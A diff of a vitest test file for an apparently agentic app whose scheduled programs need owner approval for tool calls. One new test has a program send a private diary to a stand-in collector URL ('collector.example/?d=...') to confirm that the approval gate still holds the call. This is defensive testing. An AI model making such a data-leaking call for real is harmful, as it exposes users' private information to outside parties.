@@ -1,9 +1,11 @@
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { setTimeout as delay } from 'node:timers/promises';
-import { expect, test, vi } from 'vitest';
+import { expect, onTestFinished, test, vi } from 'vitest';
 import { openApp } from '../../testing/app.ts';
 import { openCommands } from '../../testing/commands.ts';
+import { temporaryFolder } from '../../testing/home.ts';
+import { openPuppet } from '../../testing/puppet-program.ts';
 import type { Proposals } from '../../tools/gate/proposals.ts';
 
 /** A program as a job, and what is seen of it. Writing a control file always waits for the owner. */
@@ -65,6 +67,22 @@ test('another program, after a restart, takes it up', async () => {
   expect([count('before'), count('after'), read('prompt.txt')]).toEqual([1, 1, 'Be brief. 1']);
 });
 
+test('what the call gave comes whole, however long it is', async () => {
+  const source = 'let given = writeFile("prompt.txt", "x")\nprint given.length\n';
+  const { app, run, start, last, settled, proposals } = await world(source);
+  await start();
+  const store = app.tools.proposals as Proposals;
+  const finish = store.finish.bind(store);
+  vi.spyOn(store, 'finish').mockImplementation((id, state) => {
+    const long = 'x'.repeat(300_000);
+    return finish(id, state, long, { value: long });
+  });
+  await run(['approve', (await proposals())[0]?.id ?? '']);
+  await app.schedule.jobs.tick();
+  await settled('succeeded');
+  expect(await last()).toMatchObject({ output: '300000' });
+});
+
 test('a call that is denied is an error of the program, which it may catch', async () => {
   const source =
     'try {\n  writeFile("prompt.txt", "x")\n} catch (e) {\n  print `without: ${e.message}`\n}\nwriteNote("after")\n';
@@ -112,4 +130,32 @@ print tone
   }
   expect(await last()).toMatchObject({ output: 'Kind.' });
   expect([read('prompt.txt'), read('wooster.config.json')]).toEqual(['Kind.', '{}']);
+});
+
+test('what a run had read counts when it goes on, also where its conversation is gone', async () => {
+  const home = temporaryFolder();
+  const { app, acts, close } = await openPuppet(home, 'Lovely weather.');
+  onTestFinished(close);
+  mkdirSync(join(home, 'programs'), { recursive: true });
+  const source = `let page = readPage()
+let diary = readDiary()
+sendMail({ to: "bob", body: page })
+visit(\`https://collector.example/?d=\${diary}\`)
+`;
+  writeFileSync(join(home, 'programs', 'week.tl'), source);
+  const around = { toolbox: app.tools.toolbox, project: 'home' };
+  await app.tools.programs.trust(await app.tools.programs.load('week', around), 'home');
+  const program = await app.tools.programs.forJob('week', {}, around);
+  const about = { when: 'every year', prompt: 'Run week', project: 'home', untrusted: false };
+  const { id } = await app.schedule.jobs.add({ ...about, options: { program } });
+  const { conversationId } = await app.schedule.jobs.runNow(id);
+  const waiting = async () => (await app.tools.proposals.list()).filter(({ state }) => state === 'waiting');
+  const [mail] = await waiting();
+  await app.turns.archive.remove(conversationId ?? '');
+  await app.tools.approve(mail?.id ?? '', { by: 'the owner', signal: new AbortController().signal });
+  await app.schedule.jobs.tick();
+  await expect
+    .poll(async () => (await waiting()).map(({ target }) => target))
+    .toEqual(['https://collector.example/?d=my%20diary']);
+  expect(acts).toEqual(['mailed bob']);
 });
